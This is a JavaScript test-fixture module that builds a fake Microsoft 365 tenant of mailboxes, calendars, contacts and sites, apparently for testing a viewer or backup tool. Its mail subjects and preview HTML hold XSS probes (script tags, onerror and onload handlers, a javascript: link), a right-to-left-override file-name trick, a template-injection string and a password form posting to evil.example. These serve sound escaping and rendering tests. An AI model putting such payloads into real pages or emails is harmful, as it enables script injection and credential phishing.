// Mailboxes and sites of Microsoft 365. What things are called is their `dname`; their names are ids.
import { createHash } from 'node:crypto';
import { random } from '../../fleet/random.mjs';
import { guestsOf } from '../../fleet/outcomes.mjs';

const DAY = 86400;
export const manyMails = 5000;

const people = ['anna', 'boss', 'k\u00E4the', 'info', 'rechnung', 'support', 'omar', 'noa'];
const subjects = ['Minutes of the meeting', 'Re: Re: Re: Invoice 4711', 'AW: Angebot für Möbel', '', '<script>alert(1)</script> urgent', 'חשבונית \u202Egpj.exe\u202C',
    '"><img src=x onerror=alert(1)>', '会議の議事録', 'x'.repeat(255), '{{7*7}}'];

const idOf = (...words) => createHash('sha256').update(words.join('\n')).digest('hex').slice(0, 40).toUpperCase();

class Maker {
    constructor({ sourceId, createdAt, at }) {
        Object.assign(this, { seed: sourceId, base: createdAt, at });
    }

    node(type, way, dname, more = {}) {
        return { name: idOf(this.seed, ...way), type, mtime: this.base, size: 0, dname, ...more };
    }

    mail(way, i) {
        const r = random('mail', this.seed, ...way, i);
        const rtime = this.base - i * 3600;
        const from = `${r.pick(people)}@tenant.example`;
        return this.node('emailmessage', [...way, i], subjects[i % subjects.length], { size: r.int(2000, 4_000_000), mtime: rtime, itemClass: 'IPM.Note',
            from: i % 7 ? from : '"Bad <b>Guy</b>" <attacker@evil.example>', to: 'anna@tenant.example', rtime,
            ...(i % 4 === 0 ? { has_attachments: true } : {}) });
    }

    folder(way, name, count) {
        const mine = [...way, name];
        return this.node('mailfolder', mine, name, { children: () => Array.from({ length: count }, (_, i) => this.mail(mine, i)) });
    }

    calendar(way) {
        const mine = [...way, 'Calendar'];
        const event = (i) => this.node('calendarevent', [...mine, i], i % 5 ? `Appointment ${i}` : '<b>Birthday</b> of שירה', {
            itemClass: 'IPM.Appointment', size: 3000, stime: this.base + i * DAY, etime: this.base + i * DAY + 3600 });
        return this.node('calendar', mine, 'Calendar', { children: () => Array.from({ length: 40 }, (_, i) => event(i)) });
    }

    contacts(way) {
        const mine = [...way, 'Contacts'];
        const names = ['Anna Lee', 'D\'Arcy "Mac" <Mac>', 'שירה כהן', 'Łukasz Żółkiewski'];
        return this.node('contactfolder', mine, 'Contacts', { children: () => names.map((name, i) =>
            this.node('contact', [...mine, i], name, { itemClass: 'IPM.Contact', size: 900 })) });
    }

    drive(way, name) {
        const mine = [...way, name];
        const file = (it, size) => ({ name: it, type: 'file', mtime: this.base, size });
        const children = () => [{ name: 'Reports', type: 'dir', mtime: this.base, size: 0, children: () => [file('2025.xlsx', 90_000), file('2026 <draft>.docx', 20_000)] },
            file('Notebook.one', 4_000_000)];
        return this.node('mssitelistdriveentity', mine, name, { children });
    }

    mailbox(who) {
        const way = ['mailbox', who];
        const children = () => [this.folder(way, 'Inbox', who === people[0] ? manyMails : 30), this.folder(way, 'Sent Items', 12),
            this.folder(way, 'Deleted <Items>', 0), this.calendar(way), this.contacts(way), this.drive(way, 'OneDrive')];
        return this.node('dir', way, `${who}@tenant.example`, { children });
    }

    site(name, type) {
        const way = ['site', name];
        const list = this.node('mssitelistentity', [...way, 'Tasks'], 'Tasks', { children: () => Array.from({ length: 9 }, (_, i) =>
            this.node('mssiteitementity', [...way, 'Tasks', i], `Task ${i + 1}`, { size: 700 })) });
        return this.node(type, way, name, { children: () => [this.drive(way, 'Documents'), list] });
    }
}

export function officeTree(snapshot) {
    const maker = new Maker(snapshot);
    const count = Math.min(people.length, guestsOf({ engine: snapshot.engine, id: snapshot.sourceId }).mailboxes);
    const children = () => [...people.slice(0, count).map((who) => maker.mailbox(who)), maker.site('Marketing & PR', 'mssite'), maker.site('Team Nord', 'mssiteteam')];
    return { name: '', type: 'dir', mtime: snapshot.at, size: 0, children };
}

const htmlOf = (subject) => `<html><head><style>p { color: navy }</style></head><body onload="alert(1)"><p>Dear all,</p><p>${subject}</p>
<script>document.title = 'taken'</script><img src="https://tracker.example/pixel.gif" onerror="alert(1)">
<a href="javascript:alert(1)">a link</a><form action="https://evil.example/"><input name="password"></form></body></html>`;

/// EmailReportGeneratedPreview of a mail.
export const previewOf = ({ from, to, dname }) => ({ From: from, To: [to, 'team@tenant.example'], EmailSubject: dname, EmailBodyHTML: htmlOf(dname),
    EmailBodyPlaintext: `Dear all,\n\n${dname}\n` });
